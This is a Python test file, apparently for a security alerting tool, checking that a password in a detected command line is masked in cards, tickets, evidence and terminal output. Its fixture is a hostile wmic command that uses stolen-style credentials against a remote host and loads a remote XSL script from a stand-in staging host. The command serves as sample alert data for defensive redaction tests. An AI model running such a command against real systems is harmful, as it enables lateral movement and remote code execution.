"""A password in a hit's command line reaches nobody, from the search to the ticket's attachment."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from runner.cli import main
from runner.evidence import evidence_file
from runner.journal import cases
from tests.world import World, running_world

SECRET = "Zq7kX9wJ"
LINE = (
    f'wmic /node:WS02 /user:CORP\\a /password:"{SECRET} x" os get'
    f' /format:"https://u:{SECRET}@stager.example.test/a.xsl"'
)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path) as found:
        found.arm()
        found.hit(cmdline=LINE, parent_process=f"cmd /c {LINE}")
        found.tick()
        yield found


def test_card_and_ticket_show_the_line_without_its_secrets(world: World) -> None:
    world.yes(world.question())
    world.ticks(3, 60)
    for shown in (json.dumps(world.cards()), world.ticket_texts()[1]):
        assert SECRET not in shown
        assert "/node:WS02" in shown
        assert "***" in shown
    assert SECRET not in json.dumps(world.jira.all_issues())


def test_evidence_and_terminal_show_it_without_them_too(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    case = world.case()
    with world.journal.read() as tx:
        evidence = evidence_file(tx, case).decode()
    assert SECRET not in evidence
    assert "/password:" in evidence
    config = str(world.folder / "config.yaml")
    for more in ([], ["--json"]):
        assert main(["show", world.case().id, "--config", config, *more]) == 0
        said = capsys.readouterr().out
        assert SECRET not in said
        assert "stager.example.test" in said


def test_journal_keeps_the_raw_line(world: World) -> None:
    case = world.case()
    with world.journal.read() as tx:
        assert cases.read_alert(tx, case.alert_id).cmdline == LINE
